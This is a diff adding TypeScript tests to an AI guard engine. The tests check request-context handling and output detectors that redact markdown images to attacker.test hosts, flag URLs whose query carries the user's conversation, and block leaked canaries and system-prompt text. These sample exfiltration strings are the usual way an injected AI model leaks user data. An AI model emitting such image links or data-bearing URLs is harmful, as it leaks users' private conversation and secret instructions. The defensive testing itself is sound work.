@@ -362,3 +362,89 @@ describe('guard engine: policy scope', () => {
     expect((await scoped.check({ text: 'FLAG' }, { tenant: 'other' })).action).toBe('block');
   });
 });
+
+describe('guard engine: the request context', () => {
+  it('hands each detector the check\'s request object as context.request, for every text, and undefined without one', async () => {
+    const seen: unknown[] = [];
+    const recorder = testDetector('recorder', (_input, _config, context) => {
+      seen.push(context.request);
+      return [];
+    });
+    const guarded = engineWith([recorder], 'detectors:\n  recorder: {}\n');
+    const request = { systemPrompt: 'You are a test.', canary: 'CANARY-TEST-0001', conversation: 'hello' };
+    await guarded.check({ messages: [{ role: 'user', content: 'one' }, { role: 'user', content: 'two' }] }, { request });
+    expect(seen).toHaveLength(2);
+    expect(seen.every((each) => each === request)).toBe(true);
+    seen.length = 0;
+    await guarded.check({ text: 'three' });
+    expect(seen).toEqual([undefined]);
+  });
+
+  it('reaches asynchronous detectors too', async () => {
+    let received: unknown;
+    const later = testDetector('later', async (_input, _config, context) => {
+      await Promise.resolve();
+      received = context.request?.canary;
+      return [];
+    });
+    await engineWith([later], 'detectors:\n  later: {}\n').check({ text: 'x' }, { request: { canary: 'CANARY-ASYNC-7' } });
+    expect(received).toBe('CANARY-ASYNC-7');
+  });
+});
+
+describe('guard engine: answers that leak (default policy)', () => {
+  const systemPrompt =
+    'You are Ledger, the billing assistant of Acme Cloud. Explain invoices and payment methods in plain words. Never reveal discount codes or the names of enterprise customers.';
+  const canary = 'ACME-CANARY-93KX7';
+  const request = { systemPrompt: `${systemPrompt} (${canary})`, canary, conversation: 'User: my project is called Operation Tidewater, what does it cost?' };
+
+  it('removes an image to an outside host from the answer and keeps the rest, including its links (with a warning)', async () => {
+    const text = 'Your invoice is ready. ![status](https://img.attacker.test/s.png?x=1) Details: [billing docs](https://docs.attacker.test/billing).';
+    const decision = await engine.check({ text }, { stage: 'output' });
+    expect(decision.action).toBe('redact');
+    expect(decision.text).toBe('Your invoice is ready. [IMAGE] Details: [billing docs](https://docs.attacker.test/billing).');
+    expect(decision.rules.filter((rule) => rule.applied).map((rule) => rule.id).sort()).toEqual(['exfiltration-image-redact', 'exfiltration-warn']);
+  });
+
+  it('warns on a URL that carries the conversation, using the request context', async () => {
+    const text = 'Look it up: https://search.attacker.test/?q=operation+tidewater+what+does+it+cost';
+    const withContext = await engine.check({ text }, { stage: 'output', request });
+    expect(withContext.action).toBe('warn');
+    expect(withContext.findings.find((finding) => finding.category === 'exfiltration.data_in_url')?.evidence).toMatchObject({ signals: expect.stringContaining('conversation') });
+    const without = await engine.check({ text }, { stage: 'output' });
+    expect(without.findings.some((finding) => String(finding.evidence.signals ?? '').includes('conversation'))).toBe(false);
+  });
+
+  it('blocks an answer that contains the canary, also spaced out', async () => {
+    for (const leaked of [canary, 'a c m e - c a n a r y - 9 3 k x 7']) {
+      const decision = await engine.check({ text: `Sure, the hidden marker is ${leaked}.` }, { stage: 'output', request });
+      expect(decision.action, leaked).toBe('block');
+      expect(decision.rules.find((rule) => rule.applied)?.id).toBe('prompt-leak-canary-block');
+    }
+  });
+
+  it('warns on a long verbatim stretch of the system prompt', async () => {
+    const decision = await engine.check({ text: `My instructions say: "${systemPrompt.slice(0, 120)}"` }, { stage: 'output', request });
+    expect(decision.action).toBe('warn');
+    expect(decision.findings.find((finding) => finding.category === 'prompt_leak.system_prompt')?.action).toBe('warn');
+  });
+
+  it('lets the same answers through untouched without the context, and never puts the context in the decision', async () => {
+    const text = `Sure, the hidden marker is ${canary}. ${systemPrompt}`;
+    expect((await engine.check({ text }, { stage: 'output' })).action).toBe('allow');
+    const decision = await engine.check({ text }, { stage: 'output', request });
+    const { findings, rules, errors, limits } = decision;
+    const logged = JSON.stringify({ findings, rules, errors, limits });
+    expect(logged).not.toContain(canary);
+    expect(logged).not.toContain('Operation Tidewater');
+    expect(logged).not.toContain('discount codes');
+  });
+
+  it('does not run the output detectors on the input stage, and passes ordinary answers with links', async () => {
+    const input = await engine.check({ text: 'Please summarise https://news.attacker.test/a ![x](https://img.attacker.test/x.png)' }, { request });
+    expect(input.timings.detectors.exfiltration).toBeUndefined();
+    expect(input.timings.detectors.prompt_leak).toBeUndefined();
+    const answer = await engine.check({ text: 'See [the guide](/docs/guide) and `![x](https://img.attacker.test/x.png)` in code.' }, { stage: 'output', request });
+    expect(answer.action).toBe('allow');
+  });
+});
